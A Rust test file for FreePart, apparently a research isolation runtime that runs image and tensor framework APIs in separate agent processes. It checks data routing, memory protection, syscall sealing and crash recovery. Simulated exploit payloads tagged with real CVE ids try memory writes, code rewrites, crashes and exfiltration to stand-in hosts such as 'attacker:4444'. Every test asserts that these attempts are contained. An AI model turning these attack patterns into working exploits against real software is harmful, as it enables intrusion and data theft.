//! End-to-end tests of the FreePart runtime: partition routing, lazy
//! data copy, temporal permissions, syscall sealing, crash containment,
//! and restart semantics.

use freepart::{AuditRecord, CallError, FrameworkState, PartitionPlan, Policy, Runtime};
use freepart_frameworks::api::ApiType;
use freepart_frameworks::exec::CAMERA_FRAME_LEN;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{
    fileio, image::Image, ExploitAction, ExploitPayload, FrameworkError, ObjectId, ObjectKind,
    Value,
};
use freepart_simos::device::Camera;
use freepart_simos::{FaultKind, SimError, Syscall, PAGE_SIZE};

fn rt_with(policy: Policy) -> Runtime {
    Runtime::install(standard_registry(), policy)
}

fn seed_image(rt: &mut Runtime, path: &str, side: u32) {
    let mut img = Image::new(side, side, 3);
    for y in 0..side {
        for x in 0..side {
            for c in 0..3 {
                img.put(x, y, c, ((x * 7 + y * 11 + c) % 256) as u8);
            }
        }
    }
    rt.kernel.fs.put(path, fileio::encode_image(&img, None));
}

fn seed_evil_image(rt: &mut Runtime, path: &str, payload: &ExploitPayload) {
    let img = Image::new(16, 16, 3);
    rt.kernel
        .fs
        .put(path, fileio::encode_image(&img, Some(payload)));
}

#[test]
fn five_processes_and_type_routing() {
    let mut rt = rt_with(Policy::freepart());
    // Host + 4 agents.
    assert_eq!(rt.kernel.process_count(), 5);
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    // The loaded Mat lives in the *loading agent*, not the host.
    let home = rt.objects.meta(img.as_obj().unwrap()).unwrap().home;
    let loading = rt
        .agent(rt.partition_of(rt.registry().id_of("cv2.imread").unwrap()))
        .unwrap()
        .pid;
    assert_eq!(home, loading);
    assert_ne!(home, rt.host_pid());
    // A processing call moves it into the processing agent.
    let blur = rt
        .call("cv2.GaussianBlur", std::slice::from_ref(&img))
        .unwrap();
    let processing = rt
        .agent(rt.partition_of(rt.registry().id_of("cv2.GaussianBlur").unwrap()))
        .unwrap()
        .pid;
    assert_eq!(
        rt.objects.meta(blur.as_obj().unwrap()).unwrap().home,
        processing
    );
    assert_ne!(loading, processing);
}

#[test]
fn full_pipeline_is_functionally_correct() {
    // The hooked pipeline must produce byte-identical output to a
    // monolithic run — FreePart's correctness claim (§5, "Correctness").
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let gray = rt.call("cv2.cvtColor", &[img]).unwrap();
    let eq = rt.call("cv2.equalizeHist", &[gray]).unwrap();
    rt.call("cv2.imwrite", &[Value::from("/out.simg"), eq])
        .unwrap();
    let hooked = rt.kernel.fs.get("/out.simg").unwrap().clone();

    // Monolithic reference using the raw exec layer.
    use freepart_frameworks::{exec, ApiCtx, ObjectStore};
    let reg = standard_registry();
    let mut kernel = freepart_simos::Kernel::new();
    let pid = kernel.spawn("mono");
    seed_direct(&mut kernel, "/in.simg", 16);
    let mut objects = ObjectStore::new();
    let mut ctx = ApiCtx::new(&mut kernel, &mut objects, pid);
    let img = exec::execute(
        &reg,
        reg.id_of("cv2.imread").unwrap(),
        &[Value::from("/in.simg")],
        &mut ctx,
    )
    .unwrap();
    let gray = exec::execute(&reg, reg.id_of("cv2.cvtColor").unwrap(), &[img], &mut ctx).unwrap();
    let eq = exec::execute(
        &reg,
        reg.id_of("cv2.equalizeHist").unwrap(),
        &[gray],
        &mut ctx,
    )
    .unwrap();
    exec::execute(
        &reg,
        reg.id_of("cv2.imwrite").unwrap(),
        &[Value::from("/out.simg"), eq],
        &mut ctx,
    )
    .unwrap();
    let mono = kernel.fs.get("/out.simg").unwrap().clone();
    assert_eq!(hooked, mono, "isolation must not change results");
}

fn seed_direct(kernel: &mut freepart_simos::Kernel, path: &str, side: u32) {
    let mut img = Image::new(side, side, 3);
    for y in 0..side {
        for x in 0..side {
            for c in 0..3 {
                img.put(x, y, c, ((x * 7 + y * 11 + c) % 256) as u8);
            }
        }
    }
    kernel.fs.put(path, fileio::encode_image(&img, None));
}

#[test]
fn ldc_moves_data_agent_to_agent_directly() {
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let s0 = rt.stats();
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    let s1 = rt.stats();
    assert_eq!(s1.ldc_copies - s0.ldc_copies, 1, "one direct move");
    assert_eq!(s1.host_copies, s0.host_copies, "host never touched");
}

#[test]
fn non_ldc_copies_through_host_and_back() {
    let mut rt = rt_with(Policy::without_ldc());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    // Without LDC the imread result was already copied back to the host.
    assert_eq!(
        rt.objects.meta(img.as_obj().unwrap()).unwrap().home,
        rt.host_pid()
    );
    let before = rt.stats().host_copies;
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    let after = rt.stats().host_copies;
    // host→agent for the argument, agent→host for arg + result.
    assert!(after - before >= 2, "eager copies: {}", after - before);
    assert_eq!(rt.stats().ldc_copies, 0);
}

#[test]
fn ldc_transfers_far_fewer_bytes() {
    let run = |policy: Policy| {
        let mut rt = rt_with(policy);
        seed_image(&mut rt, "/in.simg", 32);
        let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
        let a = rt.call("cv2.GaussianBlur", &[img]).unwrap();
        let b = rt.call("cv2.erode", &[a]).unwrap();
        let c = rt.call("cv2.Canny", &[b]).unwrap();
        rt.call("cv2.imwrite", &[Value::from("/o.simg"), c])
            .unwrap();
        rt.kernel.metrics().copied_bytes
    };
    let with_ldc = run(Policy::freepart());
    let without = run(Policy::without_ldc());
    assert!(
        without as f64 >= 1.8 * with_ldc as f64,
        "LDC {with_ldc}B vs eager {without}B"
    );
}

#[test]
fn state_machine_follows_pipeline_and_protects() {
    let mut rt = rt_with(Policy::freepart());
    assert_eq!(rt.current_state(), FrameworkState::Initialization);
    let template = rt.host_data("template", &[7u8; 256]);
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    assert_eq!(
        rt.current_state(),
        FrameworkState::InType(ApiType::DataLoading)
    );
    // Initialization-defined template is now read-only.
    assert!(rt.is_protected(template));
    let gray = rt.call("cv2.cvtColor", std::slice::from_ref(&img)).unwrap();
    // cvtColor is type-neutral: state unchanged.
    assert_eq!(
        rt.current_state(),
        FrameworkState::InType(ApiType::DataLoading)
    );
    let blur = rt.call("cv2.GaussianBlur", &[gray]).unwrap();
    assert_eq!(
        rt.current_state(),
        FrameworkState::InType(ApiType::DataProcessing)
    );
    // The loading-stage image is locked once processing starts.
    assert!(rt.is_protected(img.as_obj().unwrap()));
    assert!(!rt.is_protected(blur.as_obj().unwrap()));
    rt.call("cv2.imshow", &[Value::from("w"), blur.clone()])
        .unwrap();
    assert!(rt.is_protected(blur.as_obj().unwrap()));
}

#[test]
fn protected_template_survives_memory_corruption_exploit() {
    // The motivating example: CVE-2017-12597 in imread tries to corrupt
    // `template`. Two defenses stack: the write lands in the loading
    // agent's address space (template lives in the host), where the
    // address is unmapped.
    let mut rt = rt_with(Policy::freepart());
    let template = rt.host_data("template", b"answer-key-coordinates!!");
    let t_addr = rt.objects.meta(template).unwrap().buffer.unwrap().0;
    seed_image(&mut rt, "/warmup.simg", 16);
    rt.call("cv2.imread", &[Value::from("/warmup.simg")])
        .unwrap();

    let payload = ExploitPayload {
        cve: "CVE-2017-12597".into(),
        actions: vec![ExploitAction::WriteMem {
            addr: t_addr.0,
            bytes: vec![0x41; 8],
        }],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);

    // template is intact in the host.
    assert_eq!(
        rt.fetch_bytes(template).unwrap(),
        b"answer-key-coordinates!!"
    );
    // And the attack was observed to fault, not succeed.
    assert!(rt.exploit_log.iter().all(|r| !r.outcome.achieved()));
}

#[test]
fn an_unmapped_object_cannot_shield_the_rest_of_a_storm() {
    // A transition protects each home's buffers in one atomic kernel op.
    // A buffer whose pages were `munmap`ed must drop out of that op, not
    // fail it and leave the rest of its home writable.
    let mut rt = rt_with(Policy::freepart());
    rt.enable_tracing();
    let host = rt.host_pid();
    let ids: Vec<ObjectId> = (0..3u8).map(|i| rt.host_data("cfg", &[i; 5000])).collect();
    let buffer = |rt: &Runtime, id| rt.objects.meta(id).unwrap().buffer.unwrap();
    let (addr, len) = buffer(&rt, ids[1]);
    rt.kernel
        .syscall(host, Syscall::Munmap { addr, len })
        .unwrap();
    let pages_before = rt.kernel.metrics().protected_pages;
    seed_image(&mut rt, "/in.simg", 16);
    rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();

    let outer = [ids[0], ids[2]];
    let mut outer_pages = 0;
    for id in outer {
        assert!(rt.is_protected(id));
        let (addr, len) = buffer(&rt, id);
        outer_pages += len.div_ceil(PAGE_SIZE);
        // Probe a copy of the host's pages, so the first fault does not
        // kill the host before the second probe.
        let mut pages = rt.kernel.process(host).unwrap().aspace.clone();
        assert_eq!(pages.write(addr, &[0]), Err(FaultKind::Protection));
    }
    let delta = rt.kernel.metrics().protected_pages - pages_before;
    assert_eq!(delta, outer_pages);
    let audited: Vec<u64> = rt
        .tracer()
        .audit_log()
        .iter()
        .filter_map(|r| match r {
            AuditRecord::StateTransition { pages, .. } => Some(*pages),
            _ => None,
        })
        .collect();
    assert_eq!(audited, vec![delta]);
    // The host's own store into a locked buffer faults.
    let err = rt.kernel.mem_write(host, buffer(&rt, ids[2]).0, &[0]);
    assert!(matches!(err, Err(SimError::Fault(f)) if f.kind == FaultKind::Protection));
}

/// Runs the action `payload` builds (from an address mapped in the
/// loading agent) through a crafted image and checks that it is
/// contained: the call returns, the host keeps running, and no action
/// achieved anything.
fn assert_wild_payload_contained(payload: impl FnOnce(u64) -> ExploitAction) {
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/warmup.simg", 16);
    let img = rt
        .call("cv2.imread", &[Value::from("/warmup.simg")])
        .unwrap();
    // The loaded Mat stays home in the loading agent.
    let (mapped, _) = rt
        .objects
        .meta(img.as_obj().unwrap())
        .unwrap()
        .buffer
        .unwrap();
    let payload = ExploitPayload {
        cve: "CVE-2017-12597".into(),
        actions: vec![payload(mapped.0)],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
    assert!(rt.kernel.is_running(rt.host_pid()));
    assert!(!rt.exploit_log.is_empty());
    assert!(rt.exploit_log.iter().all(|r| !r.outcome.achieved()));
}

#[test]
fn exploit_write_past_the_top_of_memory_is_contained() {
    // `addr + len` passes `u64::MAX`: an unmapped range, not a wrapped one.
    assert_wild_payload_contained(|_| ExploitAction::WriteMem {
        addr: u64::MAX - 3,
        bytes: vec![0x41; 16],
    });
}

#[test]
fn exploit_read_of_a_wrapping_length_is_contained() {
    assert_wild_payload_contained(|mapped| ExploitAction::ExfilMem {
        addr: mapped,
        len: u64::MAX,
        dest: "attacker.example:443".into(),
    });
}

/// A file of `magic` and little-endian header `fields`, nothing more.
fn crafted_header(magic: &[u8; 4], fields: &[u32]) -> Vec<u8> {
    let mut out = magic.to_vec();
    for f in fields {
        out.extend_from_slice(&f.to_le_bytes());
    }
    out
}

/// Loads the crafted `file` with `loader` and hands what it returns to
/// `consumer`. Framework code runs in the simulator's own process, so a
/// panic here would take down the host: check that every call returns,
/// the host and the loading agent keep running, and a benign load and
/// blur still work. Returns the kind of the loaded object.
fn load_crafted(loader: &str, consumer: &str, file: Vec<u8>) -> Result<ObjectKind, CallError> {
    let mut rt = rt_with(Policy::freepart());
    rt.kernel.fs.put("/crafted", file);
    let loaded = rt.call(loader, &[Value::from("/crafted")]);
    if let Ok(obj) = &loaded {
        let _ = rt.call(consumer, std::slice::from_ref(obj));
    }
    assert!(rt.kernel.is_running(rt.host_pid()));
    let loading = rt.partition_of(rt.registry().id_of(loader).unwrap());
    assert!(rt.kernel.is_running(rt.agent(loading).unwrap().pid));
    seed_image(&mut rt, "/ok.simg", 8);
    let img = rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    loaded.map(|obj| rt.objects.meta(obj.as_obj().unwrap()).unwrap().kind.clone())
}

#[test]
fn crafted_image_with_a_zero_dimension_is_refused() {
    // An empty Mat of impossible geometry used to load, and the next
    // filter's `Image::new` asserted on it.
    for geometry in [[4, 0, 1], [4, 4, 0], [0, 4, 1]] {
        let loaded = load_crafted(
            "cv2.imread",
            "cv2.GaussianBlur",
            crafted_header(b"SIMG", &geometry),
        );
        assert!(
            matches!(loaded, Err(CallError::Framework(FrameworkError::Parse(_)))),
            "{geometry:?}: {loaded:?}"
        );
    }
}

#[test]
fn crafted_image_with_an_overflowing_size_is_refused() {
    // w·h·ch = 2^64: the byte count wrapped to 0, so an empty Mat
    // claimed the full geometry and the blur indexed past it.
    let loaded = load_crafted(
        "cv2.imread",
        "cv2.GaussianBlur",
        crafted_header(b"SIMG", &[1 << 22, 1 << 21, 1 << 21]),
    );
    assert!(
        matches!(loaded, Err(CallError::Framework(FrameworkError::Parse(_)))),
        "{loaded:?}"
    );
}

#[test]
fn crafted_tensor_rank_does_not_size_an_allocation() {
    // Rank u32::MAX with no dims behind it once reserved 16 GiB for the
    // shape and aborted the process. Undecodable, the 8 bytes take
    // `torch.load`'s raw-f32 fallback instead.
    let loaded = load_crafted(
        "torch.load",
        "torch.matmul",
        crafted_header(b"STSR", &[u32::MAX]),
    );
    assert_eq!(loaded, Ok(ObjectKind::Tensor { shape: vec![2] }));
}

#[test]
fn crafted_tensor_with_a_zero_dimension_is_raw_data() {
    // A 0×4 tensor used to load, and `matmul`'s `Tensor::zeros` asserted
    // on its output shape.
    let loaded = load_crafted(
        "torch.load",
        "torch.matmul",
        crafted_header(b"STSR", &[2, 0, 4]),
    );
    assert_eq!(loaded, Ok(ObjectKind::Tensor { shape: vec![4] }));
}

#[test]
fn dos_exploit_crashes_only_the_loading_agent() {
    let mut rt = rt_with(Policy::no_restart());
    seed_image(&mut rt, "/ok.simg", 16);
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    let payload = ExploitPayload {
        cve: "CVE-2017-14136".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    let err = rt
        .call("cv2.imread", &[Value::from("/evil.simg")])
        .unwrap_err();
    assert!(matches!(
        err,
        CallError::AgentCrashed(_) | CallError::AgentUnavailable(_)
    ));
    // Host alive; processing/visualizing/storing agents alive.
    assert!(rt.kernel.is_running(rt.host_pid()));
    let imread = rt.registry().id_of("cv2.imread").unwrap();
    let loading = rt.partition_of(imread);
    for p in rt.partitions() {
        let alive = rt.kernel.is_running(rt.agent(p).unwrap().pid);
        if p == loading {
            assert!(!alive, "loading agent should be down");
        } else {
            assert!(alive, "agent {p} should be unaffected");
        }
    }
    // Without restart, further loading calls fail...
    let err = rt
        .call("cv2.imread", &[Value::from("/ok.simg")])
        .unwrap_err();
    assert_eq!(err, CallError::AgentUnavailable(loading));
    // ...but other partitions keep working (drone stays in the air).
    rt.call("cv2.pollKey", &[]).unwrap();
}

#[test]
fn restart_policy_recovers_the_agent() {
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/ok.simg", 16);
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    let payload = ExploitPayload {
        cve: "CVE-2017-14136".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    // The malicious input crashes the agent; the runtime restarts it and
    // re-executes (at-least-once) — the exploit fires again and the call
    // ultimately fails, but the *system* stays up.
    let err = rt
        .call("cv2.imread", &[Value::from("/evil.simg")])
        .unwrap_err();
    assert!(matches!(err, CallError::AgentCrashed(_)));
    assert!(rt.stats().restarts >= 1);
    // A clean follow-up call succeeds on the restarted agent.
    let again = rt.call("cv2.imread", &[Value::from("/ok.simg")]);
    assert!(again.is_ok(), "{again:?}");
    assert!(rt.stats().restarts >= 2, "evil call consumed one restart");
}

#[test]
fn sealed_filter_blocks_exfiltration_from_processing_agent() {
    let mut rt = rt_with(Policy::freepart());
    let secret = rt.host_data("user-profile", b"SSN=123-45-6789");
    let s_addr = rt.objects.meta(secret).unwrap().buffer.unwrap().0;
    seed_image(&mut rt, "/in.simg", 32);
    // Warm up + seal the processing agent.
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    rt.call("cv2.GaussianBlur", std::slice::from_ref(&img))
        .unwrap();
    let processing = rt.partition_of(rt.registry().id_of("cv2.GaussianBlur").unwrap());
    assert!(rt.agent(processing).unwrap().sealed);

    // Tainted input fires CVE-2019-14491 inside detectMultiScale: the
    // payload tries to read the secret and send it out.
    let payload = ExploitPayload {
        cve: "CVE-2019-14491".into(),
        actions: vec![ExploitAction::ExfilMem {
            addr: s_addr.0,
            len: 15,
            dest: "attacker:4444".into(),
        }],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    let tainted = rt.call("cv2.imread", &[Value::from("/evil.simg")]).unwrap();
    rt.kernel.fs.put("/c.xml", vec![1; 16]);
    let clf = rt
        .call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
        .unwrap();
    let _ = rt.call("cv2.CascadeClassifier.detectMultiScale", &[clf, tainted]);
    // Nothing reached the network. (The read itself also faulted: the
    // secret's address is not mapped in the processing agent.)
    assert!(!rt.kernel.network.leaked(b"SSN=123-45-6789"));
    assert!(rt.exploit_log.iter().all(|r| !r.outcome.achieved()));
}

#[test]
fn sealed_filter_blocks_code_rewrite() {
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let imread = rt.registry().id_of("cv2.imread").unwrap();
    let loading = rt.partition_of(imread);
    let code = rt.agent(loading).unwrap().code_page;
    assert!(rt.agent(loading).unwrap().sealed);

    let payload = ExploitPayload {
        cve: "CVE-2017-17760".into(),
        actions: vec![ExploitAction::RewriteCode { addr: code.0 }],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
    use freepart_frameworks::ActionOutcome;
    assert!(matches!(
        rt.exploit_log.last().unwrap().outcome,
        ActionOutcome::SyscallKilled
    ));
}

#[test]
fn unsealed_first_execution_allows_init_syscalls() {
    // The very first visualizing call needs connect(); it must succeed
    // because sealing happens after the first execution.
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    rt.call("cv2.imshow", &[Value::from("w"), img.clone()])
        .unwrap();
    assert!(rt.kernel.display.is_connected());
    let viz = rt.partition_of(rt.registry().id_of("cv2.imshow").unwrap());
    assert!(rt.agent(viz).unwrap().sealed);
    // Subsequent draws keep working under the sealed filter.
    rt.call("cv2.imshow", &[Value::from("w"), img]).unwrap();
}

#[test]
fn type_neutral_api_runs_in_context_agent() {
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    // cvtColor right after loading: runs in the loading agent.
    let gray = rt.call("cv2.cvtColor", &[img]).unwrap();
    let loading_pid = rt
        .agent(rt.partition_of(rt.registry().id_of("cv2.imread").unwrap()))
        .unwrap()
        .pid;
    assert_eq!(
        rt.objects.meta(gray.as_obj().unwrap()).unwrap().home,
        loading_pid
    );
    // The same API mid-processing runs in the processing agent.
    let blur = rt.call("cv2.GaussianBlur", &[gray]).unwrap();
    let gray2 = rt.call("cv2.cvtColor", &[blur]).unwrap();
    let processing_pid = rt
        .agent(rt.partition_of(rt.registry().id_of("cv2.GaussianBlur").unwrap()))
        .unwrap()
        .pid;
    assert_eq!(
        rt.objects.meta(gray2.as_obj().unwrap()).unwrap().home,
        processing_pid
    );
}

#[test]
fn capture_state_survives_restart_via_snapshot() {
    let mut rt = rt_with(Policy {
        snapshot_interval: 1,
        ..Policy::freepart()
    });
    rt.kernel.camera = Some(Camera::new(3, CAMERA_FRAME_LEN));
    let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    // Kill the loading agent out from under the runtime.
    let loading = rt.partition_of(rt.registry().id_of("cv2.VideoCapture.read").unwrap());
    let pid = rt.agent(loading).unwrap().pid;
    rt.kernel
        .deliver_fault(pid, freepart_simos::FaultKind::Abort, None);
    // Next read triggers restart; the capture handle still works.
    let frame = rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap));
    assert!(frame.is_ok(), "{frame:?}");
    assert!(rt.stats().restarts >= 1);
    use freepart_frameworks::ObjectKind;
    match rt.objects.meta(cap.as_obj().unwrap()).unwrap().kind {
        ObjectKind::Capture { frames_read } => assert!(frames_read >= 3),
        ref k => panic!("unexpected kind {k:?}"),
    }
}

#[test]
fn per_api_plan_isolates_each_api() {
    let reg = standard_registry();
    let apis = vec![
        reg.id_of("cv2.imread").unwrap(),
        reg.id_of("cv2.GaussianBlur").unwrap(),
        reg.id_of("cv2.erode").unwrap(),
    ];
    let plan = PartitionPlan::per_api(apis.clone(), &reg);
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            plan,
            ..Policy::freepart()
        },
    );
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let a = rt.call("cv2.GaussianBlur", &[img]).unwrap();
    rt.call("cv2.erode", &[a]).unwrap();
    // Three distinct agent pids served the three APIs.
    let pids: std::collections::BTreeSet<_> = apis
        .iter()
        .map(|&id| rt.agent(rt.partition_of(id)).unwrap().pid)
        .collect();
    assert_eq!(pids.len(), 3);
}

#[test]
fn stats_and_metrics_accumulate() {
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    let s = rt.stats();
    assert_eq!(s.rpc_calls, 2);
    assert!(s.transitions >= 2);
    let m = rt.kernel.metrics();
    assert!(m.ipc_messages >= 4, "2 requests + 2 responses");
    assert!(rt.kernel.clock().now_ns() > 0);
}

#[test]
fn unknown_api_is_reported() {
    let mut rt = rt_with(Policy::freepart());
    assert!(matches!(
        rt.call("cv2.notAnApi", &[]),
        Err(CallError::UnknownApi(_))
    ));
}

#[test]
fn framework_errors_pass_through_without_crash() {
    let mut rt = rt_with(Policy::freepart());
    let err = rt
        .call("cv2.imread", &[Value::from("/missing.simg")])
        .unwrap_err();
    assert!(matches!(err, CallError::Framework(_)));
    // Agent is still alive.
    let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
    assert!(rt.kernel.is_running(rt.agent(loading).unwrap().pid));
}

#[test]
fn restart_disabled_keeps_agent_down_but_host_operational() {
    let mut rt = rt_with(Policy::no_restart());
    let payload = ExploitPayload {
        cve: "CVE-2017-14136".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
    assert_eq!(rt.stats().restarts, 0);
    assert!(rt.kernel.is_running(rt.host_pid()));
}
